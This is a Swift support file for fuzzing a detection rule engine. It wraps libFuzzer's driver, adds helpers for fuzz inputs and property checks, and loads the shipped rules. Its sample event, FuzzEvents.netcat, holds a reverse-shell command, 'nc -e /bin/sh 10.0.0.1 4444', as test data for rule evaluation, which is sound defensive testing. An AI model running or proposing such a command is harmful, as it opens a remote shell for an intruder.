import ExecEvents
import RuleEngine

#if canImport(Glibc)
import Glibc
#endif

/// Runs libFuzzer with a target's `LLVMFuzzerTestOneInput`.
///
/// SwiftPM links an executable target's top-level code as its `main`, which would shadow the
/// `main` of libFuzzer; so each target's `main.swift` calls libFuzzer's driver itself, with the
/// command line it was given (`-max_total_time=`, corpus directories, a crash file to reproduce).
public enum FuzzDriver {
    public typealias TestOneInput = @convention(c) (UnsafePointer<UInt8>?, Int) -> CInt

    /// Hands the process to libFuzzer; returns its exit status.
    public static func run(_ testOneInput: TestOneInput) -> Never {
        var argc = CommandLine.argc
        var argv = CommandLine.unsafeArgv
        exit(LLVMFuzzerRunDriver(&argc, &argv, testOneInput))
    }
}

@_silgen_name("LLVMFuzzerRunDriver")
private func LLVMFuzzerRunDriver(
    _ argc: UnsafeMutablePointer<CInt>,
    _ argv: UnsafeMutablePointer<UnsafeMutablePointer<UnsafeMutablePointer<CChar>?>>,
    _ testOneInput: FuzzDriver.TestOneInput
) -> CInt

/// The bytes of one fuzz input.
public struct FuzzInput {
    public let bytes: UnsafeRawBufferPointer

    public init(_ data: UnsafePointer<UInt8>?, _ size: Int) {
        bytes = UnsafeRawBufferPointer(start: data, count: data == nil ? 0 : size)
    }

    /// The input as text (invalid UTF-8 becomes U+FFFD, as every reader of outside text does).
    public var text: String { String(decoding: bytes, as: UTF8.self) }

    public var array: [UInt8] { Array(bytes) }
}

/// A property a fuzz target checks beyond "does not crash": fails loudly so libFuzzer keeps the input.
public func fuzzCheck(_ condition: Bool, _ message: @autoclosure () -> String) {
    if !condition {
        let line = "fuzz property violated: \(message())\n"
        _ = line.utf8.withContiguousStorageIfAvailable { write(2, $0.baseAddress, $0.count) }
        abort()
    }
}

/// Where the repository is (for the shipped rules), from this file's path at build time.
public enum FuzzPaths {
    public static let repositoryRoot: String = {
        var path = #filePath
        for _ in 0..<3 {  // Fuzz/FuzzSupport/FuzzDriver.swift
            if let slash = path.lastIndex(of: "/") { path = String(path[..<slash]) }
        }
        return path
    }()

    public static var shippedRules: String { repositoryRoot + "/rules" }
}

/// The shipped rules, loaded once. A lazy static (made by `swift_once`, which Fuzz/lsan.supp
/// names) rather than a global of `main.swift`: LeakSanitizer cannot follow Swift's packed enum
/// pointers from a global to the rule trees, and would report them as leaked at exit.
public enum FuzzRules {
    public static let shipped = RuleLoader.load(paths: [FuzzPaths.shippedRules]).rules
}

/// Events for targets that evaluate filters and rules.
public enum FuzzEvents {
    public static let netcat = ExecEvent(
        eventTime: EventTime(millisecondsSinceEpoch: 1_795_860_000_123),
        hostName: "web-1",
        user: "alice",
        procName: "nc",
        swParam: "-e /bin/sh 10.0.0.1 4444",
        procId: 4242,
        parentProcId: 1,
        exePath: "/usr/bin/nc.openbsd",
        uid: 1000,
        args: [Array("nc".utf8), Array("-e".utf8), Array("/bin/sh".utf8), Array("10.0.0.1".utf8), Array("4444".utf8)]
    )
}
